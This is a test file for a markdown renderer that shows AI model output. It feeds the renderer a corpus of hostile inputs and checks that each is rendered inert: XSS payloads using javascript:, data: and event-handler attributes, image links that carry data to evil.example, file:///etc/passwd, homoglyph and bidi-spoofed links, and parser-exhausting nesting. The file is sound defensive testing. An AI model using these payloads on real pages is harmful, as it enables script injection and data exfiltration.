import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { StreamedMarkdown } from '../../../src-renderer/widgets/markdown/markdown.tsx'
import { namesOtherHost, safeLink } from '../../../src-renderer/widgets/markdown/safe-link.ts'
import { hasHidden, revealHidden } from '../../../src-shared/base/hidden-characters.ts'

// T19, T20: text of a model may not reach the network without a click, nor run anything.

const urls = [
  'https://evil.example/?d=secret',
  'http://evil.example',
  '//evil.example/x',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  'vbscript:x',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zy8+',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'ftp://evil.example',
  'mailto:a@evil.example',
  'smb://evil.example/share',
  'stratagem://host',
  '#user-content-x',
  '/etc/passwd',
  '\\\\evil.example\\share',
  'https://user:pass@evil.example',
  'https://github.com@evil.example/',
  'streamdown:incomplete-image',
]
const around = [
  (url: string) => `![a](${url})`,
  (url: string) => `![a](<${url}> "t")`,
  (url: string) => `[a](${url})`,
  (url: string) => `[![a](${url})](${url})`,
  (url: string) => `<${url}>`,
  (url: string) => `${url}`,
  (url: string) => `[a][r]\n\n[r]: ${url}`,
  (url: string) => `![a][r]\n\n[r]: ${url}`,
  (url: string) => `<img src="${url}" onerror="alert(1)">`,
  (url: string) => `<a href="${url}" onclick="alert(1)">x</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<svg><image href="${url}"/><script>alert(1)</script></svg>`,
  (url: string) => `<style>@import "${url}";</style>`,
  (url: string) =>
    `<link rel="stylesheet" href="${url}"><base href="${url}"><meta http-equiv="refresh" content="0;${url}">`,
  (url: string) => `<form action="${url}"><input name="attributes" id="location"></form>`,
  (url: string) =>
    `<video poster="${url}"><source src="${url}"></video><object data="${url}"></object><embed src="${url}">`,
  (url: string) => `| a |\n| - |\n| ![x](${url}) [y](${url}) |`,
  (url: string) => `- [ ] ![x](${url})\n  > <img src=${url}>`,
  (url: string) => `# [x](${url} "\\" onmouseover=alert(1)")`,
  (url: string) => `note[^1]\n\n[^1]: ![x](${url})`,
  (url: string) => `\`\`\`html onclick=x\n<img src="${url}">\n\`\`\``,
  (url: string) => `\`\`\`"><script>alert(1)</script>\n${url}\n\`\`\``,
  (url: string) => `$$\\href{${url}}{x}$$ \\url{${url}}`,
  (url: string) => `<div id="root"><p name="stratagem" title="${url}">![`,
  (url: string) => `![a](${url}`,
  (url: string) => `[a](${url}`,
]
const corpus = urls.flatMap((url) => around.map((wrap) => wrap(url)))

const allowed = new Set(
  'div p span a code pre figure figcaption button svg path rect line circle polyline h3 h4 h5 h6 ul ol li blockquote hr table thead tbody tr th td input strong em del sup sub br'.split(
    ' ',
  ),
)

function problems(html: string): string[] {
  const found: string[] = []
  for (const [, name = '', attributes = ''] of html.matchAll(/<([a-z0-9-]+)((?:[^>"]|"[^"]*")*)>/gi)) {
    if (!allowed.has(name)) found.push(`element ${name}`)
    for (const [, attribute = '', value = ''] of attributes.matchAll(/\s([a-z-]+)="([^"]*)"/gi)) {
      if (/^on|^style$|^srcdoc$|^id$|^name$|^src|^action$|^formaction$|^poster$|^background$/i.test(attribute))
        found.push(`attribute ${attribute}`)
      if (attribute === 'href' && !/^https?:\/\/[^@]*$/.test(value)) found.push(`link ${value}`)
      if (attribute === 'href' && !attributes.includes('target="_blank" rel="noopener noreferrer"'))
        found.push('link without noopener')
    }
  }
  return found
}

test('the corpus holds 500 inputs, and a page that broke a rule would be noticed', () => {
  expect(corpus.length).toBeGreaterThan(500)
  expect(problems('<img src="https://evil.example"><a href="javascript:x" onclick="y">')).toHaveLength(5)
})

test('no hostile text becomes an image, an active element, a handler or a link but to the web', () => {
  for (const text of corpus)
    for (const streaming of [false, true]) {
      const html = renderToStaticMarkup(<StreamedMarkdown text={text} streaming={streaming} />)
      expect(problems(html), text).toEqual([])
    }
})

test('nor does any cut of it, as it streams in', () => {
  fc.assert(
    fc.property(fc.constantFrom(...corpus), fc.nat(), fc.constantFrom(...corpus), (first, cut, second) => {
      const text = `${first.slice(0, cut % (first.length + 1))}\n${second}`
      expect(problems(renderToStaticMarkup(<StreamedMarkdown text={text} streaming={true} />))).toEqual([])
    }),
    { numRuns: 300 },
  )
})

test('an image is a labelled link to click on, and says where it leads', () => {
  const html = renderToStaticMarkup(<StreamedMarkdown text="![chart](https://evil.example/?d=1)" streaming={false} />)
  expect(html).toContain('Image: chart')
  expect(html).toContain('(evil.example)')
  expect(html).not.toContain('<img')
})

test('raw HTML is shown as what it is: text', () => {
  const html = renderToStaticMarkup(<StreamedMarkdown text={'before <b onclick="x">bold</b>'} streaming={false} />)
  expect(html).toContain('&lt;b onclick=&quot;x&quot;&gt;')
})

test('a link shows its true host, and writes it out where its words name another', () => {
  const html = renderToStaticMarkup(<StreamedMarkdown text="[github.com/a](https://evil.example)" streaming={false} />)
  expect(html).toContain('title="Opens evil.example"')
  expect(html).toContain('(evil.example)')
  expect(namesOtherHost('https://github.com/x', 'github.com')).toBe(false)
  expect(namesOtherHost('www.github.com', 'github.com')).toBe(false)
  expect(namesOtherHost('see the docs', 'evil.example')).toBe(false)
  expect(namesOtherHost('gіthub.com', 'github.com')).toBe(true)
})

test('a name before the host is dropped, and letters of other scripts are shown in their plain form', () => {
  expect(safeLink('https://github.com@evil.example/')).toEqual({
    kind: 'web',
    href: 'https://evil.example/',
    host: 'evil.example',
  })
  expect(safeLink('https://gіthub.com/')).toMatchObject({ host: expect.stringMatching(/^xn--/) })
  expect(safeLink('javascript:alert(1)')).toEqual({ kind: 'inert', target: 'javascript:alert(1)' })
})

test('bidi and zero-width marks in a link are made visible', () => {
  const html = renderToStaticMarkup(
    <StreamedMarkdown text={'[moc\u202e.elgoog](https://evil.example)'} streaming={false} />,
  )
  expect(html).toContain('⟨U+202E⟩')
  expect(revealHidden('a\u200bb\u2066c\u0000')).toBe('a⟨U+200B⟩b⟨U+2066⟩c⟨U+0000⟩')
  expect(hasHidden('plain\ttext\n')).toBe(false)
  expect(hasHidden('a family 👩‍👩‍👧 and a heart ❤️')).toBe(false)
  expect(hasHidden('pay\u200dpal')).toBe(true)
})

test('nesting and length that would hold or end a parser are drawn as plain text', () => {
  const deep = ['> '.repeat(20_000), '[', '['.repeat(5000) + ']'.repeat(5000), '- '.repeat(9000), 'a'.repeat(200_000)]
  for (const text of deep) {
    const html = renderToStaticMarkup(<StreamedMarkdown text={text} streaming={true} />)
    expect(problems(html)).toEqual([])
    expect(html.length).toBeGreaterThan(text.length)
  }
})
